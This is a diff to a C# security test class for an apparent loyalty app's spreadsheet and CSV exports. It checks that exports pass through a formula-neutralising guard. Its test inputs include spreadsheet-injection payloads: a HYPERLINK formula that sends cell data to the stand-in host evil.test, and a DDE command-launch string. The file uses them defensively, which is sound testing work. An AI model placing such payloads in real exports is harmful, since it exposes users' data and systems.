@@ -45,26 +45,64 @@ public class SecurityBatteryTests
     [Fact]
     public void Every_export_goes_through_the_formula_guard()
     {
-        // Files that build spreadsheets or CSV from stored text must call SpreadsheetText.Safe; a new export that does
-        // not is caught here until it does (or is listed as writing only generated values).
-        // Listed: files that write only generated values (codes, card numbers, entry ids), stream a report Core made
-        // safe (imports), or only name a content type (ticket attachments are served as uploaded, as downloads).
-        var generatedOnly = new HashSet<string> { "PrintFiles.cs", "PrintFileEndpoints.cs", "GenerateCodes.cs", "QrSheet.cs",
-            "CardPrintFileEndpoints.cs", "ContestEndpoints.cs", "TicketFiles.cs", "ImportFileEndpoints.cs", "IntegrationApi.cs" };
+        // The mechanism decides, not a list of files: a workbook leaves the app only through SafeWorkbook.Save (which
+        // neutralises every cell, however it was filled), and CSV rows are composed only through CsvText. So any file
+        // that saves a workbook must do it through SafeWorkbook, and any file that composes delimited rows for a CSV must
+        // do it through CsvText. Files that only stream bytes another writer made (downloads of stored files) compose
+        // nothing and need nothing.
         var root = AppProcess.SolutionRoot();
         var offenders = Directory.EnumerateFiles(root, "*.cs", SearchOption.AllDirectories)
             .Where(f => f.Contains("/Loyalty.Web/") || f.Contains("/Loyalty.Core/"))
-            .Where(f => !f.Contains("/obj/") && !f.Contains("/bin/"))
-            .Where(f => !generatedOnly.Contains(Path.GetFileName(f)))
-            .Where(f =>
+            .Where(f => !f.Contains("/obj/") && !f.Contains("/bin/") && !f.EndsWith("/Exports/SafeWorkbook.cs"))
+            .Select(f => (Name: Path.GetFileName(f), Source: File.ReadAllText(f)))
+            .SelectMany(f =>
             {
-                var source = File.ReadAllText(f);
-                var writes = Regex.IsMatch(source, @"new XLWorkbook\(\)|\.AddWorksheet\(|new CsvWriter|text/csv");
-                return writes && !source.Contains("SpreadsheetText.Safe");
+                var problems = new List<string>();
+                if (Regex.IsMatch(f.Source, @"\.SaveAs\(") && Regex.IsMatch(f.Source, @"XLWorkbook|IXLWorkbook"))
+                    problems.Add($"{f.Name} saves a workbook itself instead of through SafeWorkbook.Save");
+                var composesRows = Regex.IsMatch(f.Source, @"(Append|Write)\(\s*(','|"",""|""\t"")\s*\)|WriteLine(Async)?\(\$""[^""]*\{[^}]+\},\{");
+                if (composesRows && Regex.IsMatch(f.Source, "csv", RegexOptions.IgnoreCase) && !f.Source.Contains("CsvText."))
+                    problems.Add($"{f.Name} composes CSV rows without CsvText");
+                return problems;
             })
-            .Select(Path.GetFileName)
             .ToList();
-        Assert.True(offenders.Count == 0, "Exports without SpreadsheetText.Safe: " + string.Join(", ", offenders));
+        Assert.True(offenders.Count == 0, string.Join("\n", offenders));
+    }
+
+    [Fact]
+    public void A_workbook_saved_through_the_guard_holds_no_formula_whatever_the_exporter_wrote()
+    {
+        using var book = new ClosedXML.Excel.XLWorkbook();
+        var sheet = book.AddWorksheet("Export");
+        sheet.Cell(1, 1).FormulaA1 = "HYPERLINK(\"http://evil.test/?\"&B1)";
+        sheet.Cell(1, 2).SetValue("=cmd|' /C calc'!A0");
+        sheet.Cell(1, 3).SetValue("+77010000001");
+        sheet.Cell(1, 4).SetValue("Dana");
+        sheet.Cell(1, 5).Value = 42;
+        using var stream = new MemoryStream();
+        Loyalty.Web.Exports.SafeWorkbook.Save(book, stream);
+
+        stream.Position = 0;
+        using var saved = new ClosedXML.Excel.XLWorkbook(stream);
+        var row = saved.Worksheet("Export").Row(1);
+        Assert.All(row.CellsUsed(), c => Assert.False(c.HasFormula));
+        Assert.Equal("'=HYPERLINK(\"http://evil.test/?\"&B1)", row.Cell(1).GetString());
+        Assert.Equal("'=cmd|' /C calc'!A0", row.Cell(2).GetString());
+        Assert.Equal("'+77010000001", row.Cell(3).GetString());
+        Assert.Equal("Dana", row.Cell(4).GetString());
+        Assert.Equal(42, row.Cell(5).GetDouble());
+    }
+
+    [Fact]
+    public void Csv_rows_are_formula_safe_and_quoted_and_generated_values_keep_their_bytes()
+    {
+        Assert.Equal("17,3", CsvText.Row(17L, 3));
+        Assert.Equal("'=1+1,\"Smith, \"\"Jr\"\"\",-5", CsvText.Row("=1+1", "Smith, \"Jr\"", -5));
+        var writer = new StringWriter();
+        CsvText.Write(writer, "@SUM(A1)");
+        writer.Write(',');
+        CsvText.Write(writer, "ABCD-EFGH");
+        Assert.Equal("'@SUM(A1),ABCD-EFGH", writer.ToString());
     }
 
     [Fact]
